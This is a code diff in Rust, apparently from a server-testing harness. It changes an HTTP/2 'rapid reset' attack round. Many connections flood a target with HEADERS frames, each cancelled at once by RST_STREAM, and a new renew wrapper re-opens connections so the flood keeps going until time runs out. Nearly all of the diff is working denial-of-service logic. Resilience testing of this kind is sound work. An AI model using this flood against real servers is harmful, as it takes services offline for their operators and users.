@@ -1,4 +1,4 @@
-use crate::crowd::{PATIENCE, crowd, flood};
+use crate::crowd::{PATIENCE, crowd, flood, renew};
 use crate::frames::{self, END_HEADERS};
 use crate::round::{Kind, Round};
 
@@ -16,19 +16,21 @@ pub(super) fn run(round: &mut Round) -> Result<(), String> {
     let mut sent = 0;
     round.attack_endpoint(&mut endpoint, |until| {
         let floods = crowd(CONNECTIONS, |index| {
-            let connection = frames::open(requests.address, &[], PATIENCE)?;
-            let mut stream = 1;
-            flood(connection, index % 2 == 0, BYTES_MAX, until, || {
-                let mut frames = Vec::new();
-                for _ in 0..REQUESTS {
-                    frames.extend(frames::headers(stream, &block, END_HEADERS));
-                    frames.extend(frames::rst_stream(stream));
-                    stream += 2;
-                }
-                frames
+            renew(until, || {
+                let connection = frames::open(requests.address, &[], PATIENCE)?;
+                let mut stream = 1;
+                flood(connection, index % 2 == 0, BYTES_MAX, until, || {
+                    let mut frames = Vec::new();
+                    for _ in 0..REQUESTS {
+                        frames.extend(frames::headers(stream, &block, END_HEADERS));
+                        frames.extend(frames::rst_stream(stream));
+                        stream += 2;
+                    }
+                    frames
+                })
             })
         });
-        sent = floods.into_iter().flatten().sum();
+        sent = floods.into_iter().sum();
         Ok(())
     })?;
     round.note(format!("{} requests", sent / (9 + block.len() + 13)));
